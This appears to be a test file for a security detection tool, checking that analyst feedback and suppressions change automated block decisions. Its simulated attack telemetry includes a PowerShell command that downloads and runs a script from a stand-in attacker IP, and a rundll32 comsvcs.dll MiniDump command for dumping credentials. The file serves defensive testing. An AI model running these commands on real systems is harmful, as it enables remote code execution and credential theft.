import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Incident } from '../core/index.js';
import {
  beacons,
  networkConnection,
  processCreated,
  scheduledTaskRegistered,
  zeekConnLog,
} from '../evaluation/index.js';
import { IndicatorIndex } from '../intel/index.js';
import { type Investigation, investigate, type Knowledge, loadKnowledge } from '../pipeline/index.js';
import { createBuiltinReasoner } from '../reason/index.js';
import { parsePolicy } from '../respond/index.js';
import { openStores, type Stores } from '../store/index.js';
import { decideWithKnowledge } from './decide-with-knowledge.js';
import { withTrackRecords } from './feedback-aware-reasoner.js';
import { learnFromIncident } from './learn-indicators.js';
import { applyLearnedIndicators, loadLearnedKnowledge } from './learned-knowledge.js';
import { recordActionDecision, recordVerdict } from './record-feedback.js';
import { findSimilarIncidents } from './similar-incidents.js';
import { revokeSuppression, suppressPattern } from './suppressions.js';

const policy = parsePolicy(`
version: 1
auto:
  actions: [block-ip, block-domain, notify, open-ticket, collect-artefacts, add-to-watchlist]
  maxRisk: medium
  minConfidence: 0.2
`);
const attacker = '198.51.100.23';
const at = (minutes: number) => new Date(Date.UTC(2025, 2, 3, 9, minutes));

let folder: string;
let stores: Stores;
let base: Knowledge;

/** Writes a run's logs: Windows JSON lines, and a Zeek conn log when given. */
function writeLogs(name: string, lines: string[], conn?: string): string {
  const path = join(folder, name);
  mkdirSync(path);
  writeFileSync(join(path, 'windows.jsonl'), `${lines.join('\n')}\n`);
  if (conn) writeFileSync(join(path, 'conn.log'), conn);
  return path;
}

/** One run the way the harness and the CLI do it: learned knowledge in, feedback-aware reasoner. */
async function run(name: string, lines: string[], conn?: string): Promise<Investigation> {
  const learned = await loadLearnedKnowledge(stores);
  const indicators = new IndicatorIndex();
  applyLearnedIndicators(indicators, learned);
  return investigate([writeLogs(name, lines, conn)], { ...base, indicators }, stores.store, {
    reasoner: withTrackRecords(createBuiltinReasoner(), learned.trackRecords),
    suppressAlert: (alert, events) => learned.matchSuppression(alert, events)?.id,
  });
}

async function decisions(incident: Incident, confidence: number) {
  const learned = await loadLearnedKnowledge(stores);
  const proposals = await stores.store.listProposals(incident.id);
  return proposals.map((proposal) => ({
    proposal,
    ...decideWithKnowledge(proposal, policy, { confidence, now: at(0) }, learned.trackRecords),
  }));
}

const campaign = (host: string, start: number) => [
  processCreated({
    time: at(start),
    host,
    user: 'CORP\\m.ruiz',
    image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    commandLine: `powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://${attacker}/a.ps1')"`,
  }),
  networkConnection({
    time: at(start + 1),
    host,
    user: 'CORP\\m.ruiz',
    image: 'C:\\Users\\Public\\updater.exe',
    sourceIp: '10.20.0.15',
    destinationIp: attacker,
    destinationHostname: 'cdn-sync.badexample.net',
    port: 443,
  }),
  processCreated({
    time: at(start + 2),
    host,
    user: 'CORP\\m.ruiz',
    image: 'C:\\Windows\\System32\\rundll32.exe',
    commandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Users\\Public\\l.dmp full',
  }),
];

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'vigil-feedback-'));
  stores = await openStores(join(folder, 'vigil.db'));
  base = await loadKnowledge({ rules: ['rules'], intel: [] });
});

afterAll(async () => {
  await stores.close();
  rmSync(folder, { recursive: true, force: true });
});

describe('feedback changes the next decision', () => {
  it('learns the attacker address, and a rejected block is not run automatically again', async () => {
    const checkIns = beacons({
      start: at(3),
      source: '10.20.0.15',
      destination: attacker,
      port: 443,
      count: 24,
      everyMinutes: 2,
    });
    const first = await run('campaign-1', campaign('WS-A.corp.example', 0), zeekConnLog(checkIns));
    const blocking = first.incidents.find(({ reasoning }) =>
      reasoning.plan.actions.some((action) => action.actionType === 'block-ip' && action.target.value === attacker),
    );
    expect(blocking).toBeDefined();
    const { incident, reasoning, alerts } = blocking!;
    const before = await decisions(incident, reasoning.sequence.confidence);
    const block = before.find(
      (item) => item.proposal.actionType === 'block-ip' && item.proposal.target.value === attacker,
    );
    expect(block?.decision.outcome).toBe('auto');

    await recordActionDecision(stores, {
      proposal: block!.proposal,
      decision: 'rejected',
      author: 'ana',
      reason: 'shared hosting, block at proxy instead',
    });
    await recordVerdict(stores, {
      incident,
      verdict: 'true-positive',
      ruleIds: alerts.map((alert) => alert.ruleId),
      author: 'ana',
    });
    const learned = await learnFromIncident(stores, { incident, reasoning, verdict: 'true-positive' });
    expect(learned.indicators.map((indicator) => indicator.value)).toContain(attacker);
    const provenance = await stores.knowledge.listProvenance({ incidentId: incident.id });
    expect(provenance.length).toBe(learned.indicators.length);

    // The same infrastructure returns on another host, with nothing a Sigma rule would catch.
    const quiet = networkConnection({
      time: at(120),
      host: 'WS-B.corp.example',
      user: 'CORP\\l.chen',
      image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
      sourceIp: '10.20.0.16',
      destinationIp: attacker,
      port: 443,
    });
    const second = await run('campaign-2', [quiet]);
    expect(second.incidents).toHaveLength(1);
    const returning = second.incidents[0]!;
    expect(returning.alerts.some((alert) => alert.source === 'indicator' && alert.match?.value === attacker)).toBe(
      true,
    );
    const after = await decisions(returning.incident, 0.9);
    const again = after.find(
      (item) => item.proposal.actionType === 'block-ip' && item.proposal.target.value === attacker,
    );
    expect(again?.decision.outcome).toBe('approval');
    expect(again?.usedFeedback).toBe(true);
    expect(again?.decision.reasons.join(' ')).toContain('rejected block-ip');

    // The returning incident's closest past incident is the first contact, through the shared address.
    const similar = await findSimilarIncidents(stores, returning.incident.id);
    expect(similar[0]?.incident.id).toBe(incident.id);
    expect(similar[0]?.verdict).toBe('true-positive');
    expect([...similar[0]!.shared.entities, ...similar[0]!.shared.indicators].join(' ')).toContain(attacker);
  });

  it('a benign pattern marked by an analyst stops alerting, visibly, until revoked', async () => {
    const task = (minutes: number) =>
      scheduledTaskRegistered({
        time: at(minutes),
        host: 'SRV-BACKUP.corp.example',
        user: 'CORP\\svc-backup',
        taskName: '\\Nightly backup',
        command: 'C:\\Tools\\backup.exe',
      });
    // One low alert alone is an alert, not an incident (evidence strength); suppression acts on alerts.
    const first = await run('task-1', [task(200)]);
    expect(first).toMatchObject({ alerts: 1, incidents: [], suppressed: {} });
    const stored = (await stores.store.listAlerts({ limit: 1_000 })).find(
      (alert) => alert.ruleTitle === 'Scheduled Task Registered',
    );
    const suppression = await suppressPattern(stores, {
      ruleId: stored!.ruleId,
      entity: 'host:srv-backup',
      reason: 'nightly backup job',
      author: 'ana',
    });

    const second = await run('task-2', [task(1640)]);
    expect(second.incidents).toHaveLength(0);
    expect(second.suppressed).toEqual({ [suppression.id]: 1 });
    expect((await stores.knowledge.listSuppressions()).map((item) => item.id)).toContain(suppression.id);

    await revokeSuppression(stores, suppression.id, 'ana');
    const third = await run('task-3', [task(3080)]);
    expect(third).toMatchObject({ alerts: 1, suppressed: {} });
    expect((await stores.knowledge.listSuppressions({ includeRevoked: true }))[0]?.revokedBy).toBe('ana');
  });
});
